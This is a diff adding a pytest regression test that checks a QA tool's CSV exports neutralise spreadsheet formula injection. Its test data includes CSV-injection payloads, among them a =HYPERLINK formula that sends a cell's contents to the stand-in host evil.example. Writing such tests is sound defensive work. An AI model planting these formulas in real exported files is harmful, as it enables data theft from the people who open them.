@@ -617,6 +617,38 @@ def test_pdf_page_limit(tmp_path, monkeypatch):
     check_archive(tmp_path / "report.txt")  # other formats pass unread
 
 
+FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+2", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1")
+
+
+def test_csv_exports_never_hold_a_formula(tmp_path, capsys):
+    """Issue 24: `qa feedback --csv` and `qa figures --csv` wrote cells starting with = + - @ unchanged, so a
+    spreadsheet opening the file ran `=HYPERLINK(…)`. Such cells now start with a ' (OWASP); the test reads the
+    CSV back as a spreadsheet would and looks at every cell."""
+    import csv
+    import io
+
+    from qa.app.feedback import Feedback
+    from qa.cli import main
+
+    report = tmp_path / "formulas.txt"
+    report.write_text("某区2022年报告\n一、=HYPERLINK(\"http://evil.example\",\"章节\")\n"
+                      '=HYPERLINK("http://evil.example","点击")全年办理案件13件。\n'
+                      "-2+3名调解员全年新增7名。\n@SUM(A1)行政复议维持9宗。\n", "utf-8")
+    feedback = Feedback(tmp_path / "index" / "feedback.sqlite3")
+    for text in FORMULAS:
+        feedback.add(rating="up", question=text, answer=text, source=text)
+    exports = []
+    for command in (["figures", str(report), "--csv"], ["feedback", "--index", str(tmp_path / "index"), "--csv"]):
+        assert main(command) == 0
+        exports.append(list(csv.reader(io.StringIO(capsys.readouterr().out))))
+    figures, ratings = exports
+    cells = [c for rows in exports for row in rows for c in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert any(c.startswith("'=HYPERLINK") for row in figures for c in row)  # the report's text is there, inert
+    assert {row[2] for row in ratings[1:]} == {"'" + text for text in FORMULAS}
+    assert ["9宗" in row for row in figures].count(True) == 1  # figures themselves are untouched
+
+
 @pytest.mark.parametrize("k", [0, -1, 101, 1_000_000_000, 2.5, "5", None, True])
 def test_k_out_of_range_is_a_clear_error_everywhere(k, fake_model, hongqiao_corpus, tmp_path):
     from qa.reading.limits import check_k
